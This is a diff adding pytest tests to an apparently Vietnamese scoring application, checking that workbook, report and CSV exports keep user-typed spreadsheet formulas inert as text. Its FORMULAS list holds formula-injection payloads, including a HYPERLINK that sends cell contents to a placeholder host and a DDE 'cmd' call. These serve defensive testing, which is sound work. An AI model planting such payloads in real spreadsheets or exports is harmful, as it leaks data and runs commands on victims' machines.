@@ -2,14 +2,26 @@
 from __future__ import annotations
 
 import ast
-import re
 import inspect
+import io
+import re
+from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
+import openpyxl
+import pandas as pd
 import pytest
 
 from scoring import round_views, views
+from scoring.access import Actor, Role, operator
+from scoring.engine import rate
+from scoring.framework import UNIT, load_preset
 from scoring.presentation import literal, markdown
+from scoring.report import ReportSettings, report_bytes
+from scoring.round_files import round_workbook
+from scoring.rounds import Rounds, key, year_data_of
+from scoring.store import Store
+from scoring.text import inert
 from tests.servers import app_server
 from tests.test_browser import TITLES, heading, open_page, signed_in
 
@@ -132,3 +144,46 @@ def test_signing_out_is_a_post_with_the_cookies_proof(site, browser):
     page.get_by_role("heading", name="Đăng nhập", level=1).wait_for(timeout=60_000)
     assert not [c for c in context.cookies() if c["name"] == "danvan_phien"]  # cleared by the POST route
     context.close()
+
+
+# ---------------------------------------------------------------- 3. no formulas from users in any file we write
+
+FORMULAS = ['=HYPERLINK("http://x.invalid/?q="&A1,"Bấm")', "+1+1 Chi bộ", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0"]
+
+
+def test_every_writer_keeps_typed_formulas_as_text(tmp_path):
+    store = Store(f"sqlite:///{tmp_path / 'formulas.sqlite'}")
+    rounds, officer, fw = Rounds(store), operator("kiểm thử"), load_preset()
+    roster = pd.DataFrame({"code": ["DVA"], "name": [FORMULAS[1]], "cluster": [FORMULAS[2]]})
+    soon = datetime.now(timezone.utc) + timedelta(days=10)
+    rounds.open(officer, 2026, fw, roster, soon, soon + timedelta(days=5))
+    unit = Actor("dva", Role.UNIT, "DVA")
+    rounds.save_draft(unit, 2026, "DVA", {key(c.target, c.code): float(c.max_points) for c in fw.criteria},
+                      {key(UNIT, "1.1"): FORMULAS[3]}, {"name": FORMULAS[0], "title": FORMULAS[3]})
+    rounds.submit(unit, 2026, "DVA")
+    exported = round_workbook(rounds, officer, 2026)
+    data = year_data_of(2026, *rounds.snapshot(officer, 2026))
+    report = report_bytes(rate(data, fw), settings=ReportSettings(issuing_body=FORMULAS[0], place=FORMULAS[2]))
+    for name, content in (("round workbook", exported), ("report", report)):
+        texts, formulas = _cells(content)
+        assert not [f for f in formulas if any(t in f for t in ("HYPERLINK", "cmd", "A1:A9", "+1+1"))], name
+        assert {FORMULAS[0], FORMULAS[1]} <= texts, (name, sorted(t for t in texts if t[:1] in "=+@-"))
+    assert [inert(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]  # CSV and tables: behind an apostrophe
+    assert [inert(t) for t in ("-1,50", "+5", "Chi bộ A", 3.5)] == ["-1,50", "+5", "Chi bộ A", 3.5]
+
+
+def _cells(content: bytes) -> tuple[set[str], list[str]]:
+    wb = openpyxl.load_workbook(io.BytesIO(content))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    return {c.value for c in cells if c.data_type != "f"}, [c.value for c in cells if c.data_type == "f"]
+
+
+def test_tables_sent_to_the_browser_hold_formulas_as_text(tmp_path, monkeypatch):
+    from tests.test_dashboard import as_role, visit
+
+    url = as_role(tmp_path, monkeypatch, "canbo", "can_bo")
+    roster = pd.DataFrame({"code": ["DVA", "DVB"], "name": [FORMULAS[0], "Chi bộ B"], "cluster": ["Khối 1"] * 2})
+    soon = datetime.now(timezone.utc) + timedelta(days=10)
+    Rounds(Store(url)).open(operator("kiểm thử"), 2026, load_preset(), roster, soon, soon)
+    board = visit("tham_dinh").dataframe[0].value  # what the table's "Tải về tệp CSV" writes
+    assert board["Tên đơn vị"].tolist() == ["'" + FORMULAS[0], "Chi bộ B"]
